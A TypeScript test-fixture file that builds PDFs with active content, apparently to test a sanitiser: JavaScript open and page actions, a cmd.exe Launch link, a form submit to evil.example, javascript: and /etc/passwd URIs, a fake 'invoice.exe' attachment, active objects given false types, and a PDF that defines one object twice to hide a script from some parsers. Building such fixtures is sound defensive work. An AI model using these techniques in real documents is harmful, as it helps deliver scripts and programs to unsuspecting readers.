import { type PDFDict, PDFDocument, PDFHexString, PDFName, PDFString } from '@cantoo/pdf-lib';
import { plainPdf } from './pdfs.ts';

/** Script in a PDF, with a text that tests can look for. */
export const scriptText = 'app.alert("the-script-ran")';
/** Content of a file attached to a PDF. */
export const attachedText = 'MZ this-was-attached';

/** A page of text with a script everywhere that readers run one from, an attachment, and links that start programs. */
export async function activePdf(): Promise<PDFDocument> {
  const pdf = await PDFDocument.load(await plainPdf(2));
  const { context, catalog } = pdf;
  const script = () =>
    context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText(scriptText) });
  const stream = context.register(context.flateStream(scriptText));
  pdf.addJavaScript('on opening', scriptText);
  await pdf.attach(Buffer.from(attachedText), 'invoice.exe', { mimeType: 'application/octet-stream' });
  catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: stream, Next: [script()] }));
  catalog.set(PDFName.of('AA'), context.obj({ WC: script() }));
  const page = pdf.getPage(0);
  page.node.set(PDFName.of('AA'), context.obj({ O: script() }));
  const link = (at: number, action: PDFDict) =>
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [40, at, 200, at + 20],
        Border: [0, 0, 0],
        A: action,
      }),
    );
  const file = { Type: 'Filespec', F: PDFString.of('invoice.exe') };
  const marks = [
    link(500, script()),
    link(470, context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
    link(440, context.obj({ Type: 'Action', S: 'SubmitForm', F: PDFString.of('https://evil.example/take') })),
    link(410, context.obj({ S: 'URI', URI: PDFString.of('javascript:alert(1)') })),
    link(380, context.obj({ S: 'URI', URI: PDFString.of('https://example.com/read-more') })),
    link(350, context.obj({ S: 'GoTo', D: [pdf.getPage(1).ref, PDFName.of('Fit')] })),
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [300, 500, 320, 520], FS: file }),
    ),
  ];
  page.node.set(PDFName.of('Annots'), context.obj(marks));
  return pdf;
}

/** Two pages, with a link for each action on the first. */
export async function pdfWithLinks(...actions: Record<string, unknown>[]): Promise<PDFDocument> {
  const pdf = await PDFDocument.load(await plainPdf(2));
  const { context } = pdf;
  const marks = actions.map((action) => ({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [40, 40, 90, 60],
    A: action,
  }));
  pdf.getPage(0).node.set(PDFName.of('Annots'), context.obj(marks as never));
  return pdf;
}

/** Active objects with false types, and a list with more elements than a call can take arguments. */
export async function disguisedPdf(): Promise<PDFDocument> {
  const pdf = await pdfWithLinks(
    { Type: 'Font', S: 'JavaScript', JS: PDFString.of(scriptText) },
    { Type: 'StructElem', S: 'Launch', F: PDFString.of('cmd.exe') },
    { S: 'URI', URI: PDFString.of('java\\nscript:alert(1)') },
    { S: 'URI', URI: PDFHexString.fromText(' FILE:///etc/passwd') },
  );
  const { context, catalog } = pdf;
  const file = context.register(context.stream(attachedText));
  catalog.set(PDFName.of('AF'), context.obj([{ Type: 'Font', EF: { Type: 'Font', UF: file } }]));
  catalog.set(
    PDFName.of('AA'),
    context.obj({ Type: 'Font', WC: { S: 'JavaScript', JS: PDFString.of(scriptText) } }),
  );
  const numbers = Array.from({ length: 300_000 }, (_, at) => at);
  catalog.set(PDFName.of('Long'), context.obj(numbers));
  return pdf;
}

/** A link with a script, on a page whose fonts have these names. */
export async function pdfWithFonts(names: readonly string[]): Promise<PDFDocument> {
  const pdf = await pdfWithLinks({ S: 'JavaScript', JS: PDFString.of(scriptText) });
  const { context } = pdf;
  const font = { Type: 'Font', Subtype: 'Type1', BaseFont: 'Helvetica' };
  const fonts = Object.fromEntries(names.map((name) => [name, context.register(context.obj(font))]));
  const page = pdf.getPage(1).node;
  page.set(PDFName.of('Resources'), context.obj({ Font: fonts }));
  const drawn = names.map((name, at) => `BT /${name} 20 Tf 40 ${500 - at * 40} Td (by ${name}) Tj ET`);
  page.set(PDFName.of('Contents'), context.register(context.stream(drawn.join('\n'))));
  return pdf;
}

/**
 * A file that defines object 4 twice. Readers that follow its table find a script; those that read it from start to end find
 * none.
 */
export function twoFacedPdf(): Buffer {
  const objects = [
    '1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>> endobj\n',
    '2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n',
    '3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>> endobj\n',
    `4 0 obj <</S/JavaScript/JS(${scriptText.replace(/[()]/g, '\\\\$&')})>> endobj\n`,
  ];
  let text = '%PDF-1.4\n';
  const places = objects.map((object) => {
    const at = text.length;
    text += object;
    return at;
  });
  text += '4 0 obj null endobj\n';
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const table = text.length;
  return Buffer.from(
    `${text}xref\n0 5\n0000000000 65535 f \n${rows}trailer <</Root 1 0 R/Size 5>>\nstartxref\n${table}\n%%EOF\n`,
  );
}
